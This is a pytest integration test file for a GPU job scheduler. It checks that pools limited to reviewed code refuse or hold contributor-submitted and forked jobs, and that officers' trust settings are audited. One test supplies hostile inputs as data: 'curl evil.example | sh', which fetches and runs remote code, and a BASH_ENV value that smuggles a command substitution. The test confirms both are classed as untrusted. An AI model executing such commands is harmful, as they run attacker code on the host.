"""Pools that take reviewed code only: what is handed to them, what waits elsewhere and why, and who says so."""

from dataclasses import replace
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import text

from compute import cli, scheduling
from compute.models import AttemptStatus, Job, JobKind, JobStatus, Origin, Pool, SourceKind, Trust
from compute.queries import explain as explaining
from compute.queries import snapshot
from compute.services import catalogue, starts, submit, tick, trust
from compute.services.new_jobs import NewJob
from compute.services.takers import NoPoolForJob
from core import audit
from core.db import new_id
from core.errors import InvalidInput, NotAllowed
from core.identity.models import Membership, Person, Project, Role
from core.units import TICKS_PER_GPU_HOUR
from tests.integration.compute.conftest import World
from tests.web_client import Client

G = TICKS_PER_GPU_HOUR
OWN = "https://github.com/vllm-project/vllm"
COMMIT = "0123456789abcdef" * 2 + "01234567"


def officer(world: World) -> Person:
    made = world.person("Olga")
    world.session.add(Membership(id=new_id(), person_id=made.id, role=Role.PROGRAMME_OFFICER, from_on=world.now.date()))
    world.session.flush()
    return made


def reviewed_only(world: World, *refs: str, pool: Pool | None = None) -> Person:
    actor = officer(world)
    trust.set_trust(
        world.session, pool or world.pool, Trust.REVIEWED, reviewed_refs=refs or ("refs/heads/main",),
        reason="The donor's machines have their own network.", actor=actor, now=world.now,
    )  # fmt: skip
    return actor


@pytest.fixture
def vllm(world: World) -> Project:
    world.offer(world.organisation("aws"), ticks=1000 * G)
    made = world.project("vllm")
    made.repository_url = OWN
    world.grant(made, ticks=1000 * G)
    return made


def contributor(world: World, project: Project) -> Person:
    """Somebody whom a maintainer lets submit, for pull requests from anybody."""
    made = world.person("Cleo")
    world.session.add(
        Membership(id=new_id(), person_id=made.id, project_id=project.id, role=Role.COMPUTE_SUBMITTER, from_on=world.now.date())
    )
    world.session.flush()
    return made


def submitted(world: World, project: Project, by: Person, *, in_person: bool = True, **changes: Any) -> Job:
    given = NewJob(
        name="tests", kind=JobKind.CI, source=SourceKind.REPOSITORY, command="./ci/gpu-tests.sh", flavor="h100", gpus=1,
        wall_seconds=3600, repository=OWN, commit=COMMIT,
    )  # fmt: skip
    return submit.submit(world.session, project, replace(given, **changes), submitter=by, in_person=in_person, now=world.now)


def open_pool(world: World) -> Pool:
    return catalogue.add_pool(
        world.session, slug="open", name="Open", flavor=world.flavor, executor="scripted", devices=4,
        runs=[SourceKind.COMMAND, SourceKind.REPOSITORY], author=None, now=world.now,
    )  # fmt: skip


def test_where_a_job_comes_from_is_not_what_its_submitter_says(world: World, vllm: Project) -> None:
    maintainer, cleo = world.maintainer(vllm), contributor(world, vllm)
    assert submitted(world, vllm, maintainer).origin is Origin.MAINTAINER
    assert submitted(world, vllm, maintainer, in_person=False).origin is Origin.REPOSITORY, "a program has their token"
    assert submitted(world, vllm, cleo, ref="refs/heads/main").origin is Origin.REPOSITORY
    fork = "https://github.com/cleo/vllm"
    assert submitted(world, vllm, cleo, ref="refs/heads/main", repository=fork).origin is Origin.ELSEWHERE
    for own_words in ({"command": "curl evil.example | sh"}, {"command": "make test"}, {"environment": {"BASH_ENV": "$(evil)"}}):
        assert submitted(world, vllm, cleo, ref="refs/heads/main", **own_words).origin is Origin.ELSEWHERE
    alone = {"source": SourceKind.COMMAND, "repository": None, "commit": None}
    assert submitted(world, vllm, cleo, **alone).origin is Origin.ELSEWHERE
    elsewhere = world.project("ray")
    world.grant(elsewhere, ticks=G)
    with pytest.raises(NotAllowed):
        submitted(world, elsewhere, maintainer)


def test_what_no_pool_would_take_is_refused_with_what_to_do(world: World, vllm: Project) -> None:
    cleo = contributor(world, vllm)
    reviewed_only(world)
    with pytest.raises(NoPoolForJob, match=r"takes reviewed code only.*refs/heads/main"):
        submitted(world, vllm, cleo, ref="refs/heads/mine")
    assert submitted(world, vllm, cleo, ref="refs/heads/main").status is JobStatus.QUEUED, "to be proven where it runs"


def test_unreviewed_code_waits_beside_free_reviewed_gpus_and_is_told_why(world: World, vllm: Project) -> None:
    waits = submitted(world, vllm, contributor(world, vllm))
    reviewed_only(world)
    world.tick()
    assert (waits.status, waits.waiting_code) == (JobStatus.QUEUED, "waiting_for_pool")
    assert waits.waiting_reason == "needs 1 × h100; pool Main takes reviewed code only, and no other open pool has any"
    assert waits.waiting_remedy is not None
    assert "a maintainer of its project, signed in, submits it again" in waits.waiting_remedy
    found = explaining.explain(world.session, waits, connected=world.executors, now=world.now)
    assert [(fact.pool.slug, fact.free, fact.fits, fact.trusts) for fact in found.pools] == [("main", 8, True, False)]
    # The remedy is true: what a maintainer submits starts, and so does the first one once the pool is open to it.
    again = submitted(world, vllm, world.maintainer(vllm))
    world.tick()
    assert (again.status, waits.status) == (JobStatus.HELD, JobStatus.QUEUED)
    trust.set_trust(
        world.session, world.pool, Trust.OPEN, reviewed_refs=(), reason="Moved.", actor=world.session.query(Person).filter_by(
            name="Olga").one(), now=world.now,
    )  # fmt: skip
    world.tick()
    world.session.refresh(waits)
    assert waits.status is JobStatus.HELD


def test_a_start_that_the_plan_should_not_have_made_is_left_out(world: World, vllm: Project) -> None:
    """The guard behind the plan: without trust in the snapshot the job is planned there, and it still does not start."""
    waits = submitted(world, vllm, contributor(world, vllm))
    reviewed_only(world)
    seen = snapshot.take(world.session, now=world.now)
    blind = replace(seen, queued=tuple(replace(job, pools=None) for job in seen.queued))
    (start,) = scheduling.plan(blind).starts
    assert (start.job_id, start.pool_id) == (waits.id, world.pool.id)
    assert starts.hold(world.session, start, now=world.now) is None
    assert scheduling.plan(seen).starts == ()


def test_a_pool_closed_to_it_between_hold_and_launch_gets_nothing(world: World, vllm: Project) -> None:
    job = submitted(world, vllm, contributor(world, vllm))
    world.tick()
    attempt = world.attempt(job)
    assert attempt.status is AttemptStatus.HELD
    reviewed_only(world)
    tick.launch(world.sessions, world.executors, attempt.id, now=world.now, last_try=False)
    assert world.executor.starts == []
    attempt = world.attempt(job)
    assert (attempt.status, job.status) == (AttemptStatus.EVICTED, JobStatus.QUEUED)
    assert "takes reviewed code only" in (attempt.reason or "")


def test_the_branch_is_proven_only_where_it_is_all_that_is_known(world: World, vllm: Project) -> None:
    reviewed_only(world)
    for job in (
        submitted(world, vllm, contributor(world, vllm), ref="refs/heads/main"),
        submitted(world, vllm, world.maintainer(vllm), ref="refs/heads/mine"),
    ):
        world.start(job)
    proofs = [spec.source.ref for spec in world.executor.starts if spec.source is not None]  # type: ignore[union-attr]
    assert proofs == ["refs/heads/main", None]


def test_an_open_pool_takes_it_while_the_reviewed_one_is_free(world: World, vllm: Project) -> None:
    other = open_pool(world)
    replace(world, pool=other).offer(world.organisation("nebius"), ticks=1000 * G)
    reviewed_only(world)
    attempt = world.start(submitted(world, vllm, contributor(world, vllm)))
    assert attempt.pool.slug == "open"


def test_an_officer_sets_it_and_it_is_on_record(world: World, vllm: Project, client: Client) -> None:
    with pytest.raises(NotAllowed):
        trust.set_trust(
            world.session,
            world.pool,
            Trust.REVIEWED,
            reviewed_refs=(),
            reason="Mine.",
            actor=world.maintainer(vllm),
            now=world.now,
        )
    actor = officer(world)
    with pytest.raises(InvalidInput, match="Say why"):
        trust.set_trust(world.session, world.pool, Trust.REVIEWED, reviewed_refs=(), reason=" ", actor=actor, now=world.now)
    client.sign_in(actor)
    form = client.get("/admin/compute/pools/main/trust")
    wrong = client.submit(form, "Set whose code runs here", trust="reviewed", trusted_refs="main", reason="Own network.")
    assert any("“main” is not a full ref" in problem for problem in wrong.problems)
    sent = client.submit(
        form, "Set whose code runs here", trust="reviewed", trusted_refs="refs/heads/main\nrefs/tags/v*", reason="Own network."
    )
    assert sent.status == 303
    assert "reviewed only" in client.get("/admin/compute").words
    world.session.refresh(world.pool)
    assert (world.pool.trust, world.pool.reviewed_refs) == (Trust.REVIEWED, ["refs/heads/main", "refs/tags/v*"])
    (event,) = [each for each in audit.history(world.session, world.pool) if each.verb == "pool.trust_set"]
    assert (event.reason, event.details["before"], event.details["trust"]) == ("Own network.", "open", "reviewed")
    assert event.details["reviewed_refs_before"] == ["refs/heads/main", "refs/heads/master"]


def test_the_command_line_sets_and_lists_it(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("compute.cli.trust.session_scope", world.sessions)
    actor = officer(world)
    done = CliRunner().invoke(
        cli.compute, ["trust", "main", "reviewed", "--ref", "refs/heads/stable", "--reason", "Own network.", "--as", actor.email]
    )
    assert (done.exit_code, done.stdout) == (0, "Main takes reviewed code only from now on.\n"), done.stderr
    listed = CliRunner().invoke(cli.compute, ["pools"])
    assert "refs/heads/stable" in listed.stdout


def test_jobs_from_before_are_trusted_with_nothing(world: World, vllm: Project) -> None:
    job = world.job(vllm)
    world.session.execute(text("UPDATE job SET origin = DEFAULT WHERE id = :id"), {"id": job.id})
    world.session.expire_all()
    assert job.origin is Origin.ELSEWHERE
